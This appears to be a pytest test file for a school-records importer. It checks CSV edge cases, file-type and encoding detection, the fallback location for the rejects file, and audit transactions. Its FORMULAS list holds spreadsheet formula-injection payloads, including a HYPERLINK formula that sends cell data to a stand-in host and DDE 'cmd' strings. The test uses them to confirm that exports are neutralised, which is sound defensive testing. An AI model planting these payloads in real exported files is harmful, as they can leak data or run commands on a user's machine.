"""What the importer must never do, on SQLite and PostgreSQL: swallow rows behind a quote, keep
NUL bytes in a name, crash on a long cell, trust a file's name over its content, write a
formula a spreadsheet would run, lose the rejects when the folder is read-only, or commit an
import without its audit entry."""

from __future__ import annotations

import ast
import csv
import json
import os
import re
import shutil
from pathlib import Path

import pytest
from sqlmodel import Session

from cla_desktop.services.imports import importer
from cla_desktop.services.imports.report import RejectsUnwritable
from cla_desktop.services.imports.sources import SourceError
from cla_desktop.services.search.service import search
from cla_desktop.store.database import readonly
from tests.services.import_world import SUPERVISOR, count, load, snapshot
from tests.support import import_files as files

DATA = Path(__file__).parent.parent / "data"


@pytest.fixture
def schools(engine, tmp_path):
    padron = files.write_csv(tmp_path / "padron.csv", files.PADRON_HEADER, files.padron_rows())
    assert load(engine, padron, "padron").committed
    return engine


def nomina_text(rows=None, delimiter=",") -> str:
    lines = [delimiter.join(files.NOMINA_HEADER)]
    lines += [delimiter.join(row) for row in rows or files.nomina_rows()]
    return "\r\n".join(lines) + "\r\n"


def many_rows(count_: int) -> list[list[str]]:
    base = files.nomina_rows()[0]
    return [
        [*base[:8], str(10**13 + n), "DNI", f"{71000000 + n}", "ROJAS", "RIOS", "ANA", "M",
         "01/01/2012"]
        for n in range(count_)
    ]  # fmt: skip


def audit_details(engine) -> list[dict]:
    with readonly(engine).connect() as connection:
        return [
            json.loads(detail)
            for (detail,) in connection.exec_driver_sql(
                "SELECT detail FROM audit_entry WHERE action = 'importacion' ORDER BY id"
            )
        ]


# -- quotes, long cells, control characters, row numbers ------------------------------------
@pytest.mark.parametrize("skip_invalid", [False, True])
def test_an_unclosed_quote_refuses_the_file_at_its_row(schools, tmp_path, skip_invalid):
    rows = many_rows(50)
    rows[9][11] = '"ROJAS'  # row 11 of the spreadsheet: a quote that never closes
    path = tmp_path / "nomina.csv"
    path.write_text(nomina_text(rows), encoding="utf-8")
    before = snapshot(schools)
    with pytest.raises(SourceError, match=r"nomina.csv: la fila 11 abre comillas"):
        load(schools, path, "nomina", skip_invalid=skip_invalid, rejects=tmp_path / "r.csv")
    assert snapshot(schools) == before
    assert not (tmp_path / "r.csv").exists()
    assert audit_details(schools)[-1]["resultado"] == "fallida"


def test_a_huge_cell_is_refused_not_a_crash(schools, tmp_path):
    rows = many_rows(3)
    rows[1][13] = "A" * 200_000  # past the csv module's 128 KB field limit
    path = tmp_path / "nomina.csv"
    path.write_text(nomina_text(rows), encoding="utf-8")
    with pytest.raises(SourceError, match=r"la fila 3 tiene una celda de 200,000 caracteres"):
        load(schools, path, "nomina")
    assert count(schools, "student") == 0


def test_nul_and_control_characters_never_reach_a_name(schools, tmp_path):
    rows = files.nomina_rows()
    rows[1][13] = "MARÍA\x00 JOSÉ\x00\x00"
    rows[2][11] = "CCA\x1fHUANA"
    path = tmp_path / "nomina.csv"
    path.write_text(nomina_text(rows), encoding="utf-8")
    report = load(schools, path, "nomina")
    assert report.committed, report.problems
    with readonly(schools).connect() as connection:
        names = connection.exec_driver_sql(
            "SELECT apellido_paterno, nombres FROM student ORDER BY codigo_estudiante"
        ).all()
    assert [tuple(row) for row in names][1:3] == [
        ("NÚÑEZ", "MARÍA JOSÉ"),
        ("CCAHUANA", "LUZ MARINA"),
    ]
    assert report.notices == [
        "Se quitaron 4 caracteres de control (invisibles, como NUL) de las celdas de las filas "
        "3, 4; revise esas filas en el archivo original."
    ]
    assert "avisos" in audit_details(schools)[-1]
    with Session(readonly(schools)) as session:
        assert search(session, SUPERVISOR, "nunez maria jose")[0].document_number == "70000002"


def test_row_numbers_are_the_spreadsheets_after_cells_with_line_breaks(schools, tmp_path):
    header = [*files.NOMINA_HEADER, "OBSERVACION"]
    rows = [[*row, ""] for row in files.nomina_rows()]
    rows[0][-1] = "Vive con\nsus abuelos\ny tíos"  # three lines, one row
    rows[1][-1] = "Trasladado\r\nen abril"
    rows[3][10] = "123"  # the fourth student: row 5 in the spreadsheet, line 8 of the text
    path = files.write_csv(tmp_path / "nomina.csv", header, rows)
    report = load(schools, path, "nomina")
    assert [(p.row, p.column) for p in report.problems] == [(5, "DNI")]


def test_title_lines_and_blank_lines_before_the_header(schools, tmp_path):
    text = "NOMINA DE MATRICULA 2019\r\n\r\nUGEL URUBAMBA - I.E. 50721\r\n\r\n" + nomina_text(
        delimiter=";"
    )
    path = tmp_path / "nomina.csv"
    path.write_text(text, encoding="cp1252")
    report = load(schools, path, "nomina")
    assert report.committed and report.facts.delimiter == ";"
    assert report.counts.read == 4


@pytest.mark.parametrize(
    "content, words",
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "nomina.csv es un documento PDF"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "nomina.csv es una imagen PNG"),
        (b"SQLite format 3\x00" + bytes(100), "nomina.csv es una base de datos SQLite"),
        (b"PK\x03\x04" + bytes(60), "nomina.csv es un archivo comprimido (ZIP)"),
        (bytes(range(256)) * 8, "nomina.csv no es un archivo de texto"),
    ],
)
def test_the_file_type_is_told_by_content(schools, tmp_path, content, words):
    path = tmp_path / "nomina.csv"
    path.write_bytes(content)
    with pytest.raises(SourceError, match=re.escape(words)):
        load(schools, path, "nomina")


def test_a_workbook_renamed_csv_is_read_as_a_workbook(schools, tmp_path):
    path = shutil.copy(DATA / "nomina_muestra.xlsx", tmp_path / "nomina.csv")
    report = load(schools, path, "nomina")
    assert report.committed and report.facts.format == "XLSX"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "cp1252"])
def test_encodings_by_bom_and_by_content(schools, tmp_path, encoding):
    path = tmp_path / "nomina.txt"
    path.write_bytes(nomina_text(delimiter="\t").encode(encoding))
    report = load(schools, path, "nomina")
    assert report.committed, report.problems
    with readonly(schools).connect() as connection:
        assert (
            connection.exec_driver_sql(
                "SELECT nombres FROM student WHERE codigo_estudiante = '10000000000002'"
            ).scalar_one()
            == "MARÍA JOSÉ"
        )


# -- the rejects file ------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def test_the_rejects_file_never_holds_a_formula(schools, tmp_path):
    rows = files.nomina_rows() * 2
    rows = [list(row) for row in rows]
    for row, formula in zip(rows[4:], FORMULAS + ["=1"] * 4, strict=False):
        row[8] = str(10**13 + 50 + rows.index(row))
        row[10] = formula  # a DNI that is a formula: rejected
        row[13] = formula
    path = files.write_csv(tmp_path / "nomina.csv", [*files.NOMINA_HEADER[:-1], "=FECHA"], rows)
    report = load(schools, path, "nomina", skip_invalid=True, rejects=tmp_path / "rechazos.csv")
    assert report.counts.rejected == 4 and report.rejects_file == tmp_path / "rechazos.csv"
    with report.rejects_file.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for line in written:
        for cell in line:
            assert not cell.startswith(dangerous), cell
    assert "'=FECHA" in written[0]
    assert [line[11] for line in written[1:]] == [f"'{f}" for f in FORMULAS[:4]]


def _unwritable(monkeypatch, folder: Path) -> None:
    """A read-only folder.  Root writes through permission bits, so as root the refusal the
    operating system would give is simulated at the one place the writer opens files."""
    if os.geteuid() != 0:
        folder.chmod(0o555)
        return
    original = Path.open

    def refusing(self, mode="r", *args, **kwargs):
        if "w" in mode and Path(self).parent == folder:
            raise PermissionError(13, "Permission denied", str(self))
        return original(self, mode, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refusing)


def test_rejects_go_to_the_documents_folder_when_the_source_folder_is_read_only(
    schools, tmp_path, monkeypatch
):
    monkeypatch.setenv("CLA_HOME", str(tmp_path / "home"))
    shared = tmp_path / "compartida"
    shared.mkdir()
    rows = files.nomina_rows()
    rows[1][10] = "1234"
    source = files.write_csv(shared / "nomina.csv", files.NOMINA_HEADER, rows)
    _unwritable(monkeypatch, shared)
    report = load(
        schools,
        source,
        "nomina",
        skip_invalid=True,
        rejects=importer.default_rejects_path(source),
        rejects_fallback=True,
    )
    moved = tmp_path / "home" / "documentos" / "nomina-rechazos.csv"
    assert report.committed and report.rejects_file == moved and moved.is_file()
    assert any(str(shared) in notice and "Documentos" in notice for notice in report.notices)
    assert audit_details(schools)[-1]["rechazos"] == str(moved)


def test_an_explicit_rejects_place_that_cannot_be_written_is_said_before_importing(
    schools, tmp_path, monkeypatch
):
    source = shutil.copy(DATA / "nomina_muestra.csv", tmp_path / "nomina.csv")
    with pytest.raises(RejectsUnwritable, match="no existe: indique otra carpeta"):
        load(schools, source, "nomina", skip_invalid=True, rejects=tmp_path / "no" / "r.csv")
    locked = tmp_path / "cerrada"
    locked.mkdir()
    _unwritable(monkeypatch, locked)
    with pytest.raises(RejectsUnwritable, match="la carpeta no lo permite"):
        load(schools, source, "nomina", skip_invalid=True, rejects=locked / "r.csv")
    assert count(schools, "student") == 0


# -- the audit entry belongs to the import's transaction ---------------------------------------
def test_a_committed_import_and_its_audit_entry_are_one_transaction(schools, tmp_path, monkeypatch):
    before = snapshot(schools)

    def failing(*_args, **_kwargs):
        raise RuntimeError("the disk filled up while writing the audit entry")

    monkeypatch.setattr(importer, "_record", failing)
    with pytest.raises(RuntimeError):
        load(schools, DATA / "nomina_muestra.csv", "nomina")
    assert snapshot(schools) == before  # no rows without their trace


def test_the_entry_is_written_before_the_commit(schools, monkeypatch):
    """Killing the process between the audit write and the commit loses both together: the
    entry is written on the import's own connection, inside its transaction."""
    seen = []
    original = importer._record

    def spying(session, actor, report):
        seen.append(session.connection().in_transaction() and report.committed)
        original(session, actor, report)

    monkeypatch.setattr(importer, "_record", spying)
    report = load(schools, DATA / "nomina_muestra.csv", "nomina")
    assert report.committed and seen == [True]
    assert audit_details(schools)[-1]["resultado"] == "importada"


@pytest.mark.parametrize(
    "stop, outcome",
    [(KeyboardInterrupt, "interrumpida"), (importer.ImportCancelled, "cancelada")],
)
def test_a_stopped_import_is_audited_as_such(schools, tmp_path, stop, outcome):
    path = files.write_csv(tmp_path / "nomina.csv", files.NOMINA_HEADER, many_rows(40))
    before = snapshot(schools)

    def progress(done, total):
        raise stop

    if stop is KeyboardInterrupt:
        with pytest.raises(KeyboardInterrupt):
            load(schools, path, "nomina", batch_rows=10, progress=progress, sexo="HM")
    else:
        assert load(schools, path, "nomina", batch_rows=10, progress=progress, sexo="HM").cancelled
    assert snapshot(schools) == before
    detail = audit_details(schools)[-1]
    assert detail["resultado"] == outcome and detail["archivo"] == "nomina.csv"


# -- what a clerk reads ----------------------------------------------------------------------
def test_messages_carry_no_python_names_or_paths_to_docs(schools, tmp_path):
    missing = files.write_csv(tmp_path / "acta.csv", ["COD_MOD", "ANIO", "NOTA"], [["1", "2", "3"]])
    with pytest.raises(SourceError) as refused:
        load(schools, missing, "acta")
    text = str(refused.value)
    assert "docs/" not in text and "Error" not in text and "KeyError" not in text
    rows = files.nomina_rows()
    report = load(
        schools, files.write_csv(tmp_path / "n.csv", files.NOMINA_HEADER, rows), "nomina",
        dry_run=True,
    )  # fmt: skip
    assert "Se crearían 4 estudiantes, 4 matrículas; no se actualizaría ninguno" in report.outcome()
    assert "ninguno;" not in report.outcome().replace("actualizaría ninguno", "")


def test_no_message_points_clerks_to_docs():
    """A clerk has no docs/ folder: messages name what to do, not where a developer reads."""
    root = Path(__file__).resolve().parents[2] / "cla_desktop"
    offenders = []
    for folder in ("services/imports", "cli"):
        for path in (root / folder).glob("*.py"):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            docstrings = {
                id(node.body[0].value)
                for node in ast.walk(tree)
                if isinstance(node, (ast.Module, ast.ClassDef, ast.FunctionDef))
                and node.body
                and isinstance(node.body[0], ast.Expr)
            }
            offenders += [
                f"{path.name}:{node.lineno}"
                for node in ast.walk(tree)
                if isinstance(node, ast.Constant)
                and isinstance(node.value, str)
                and "docs/" in node.value
                and id(node) not in docstrings
            ]
    assert offenders == []
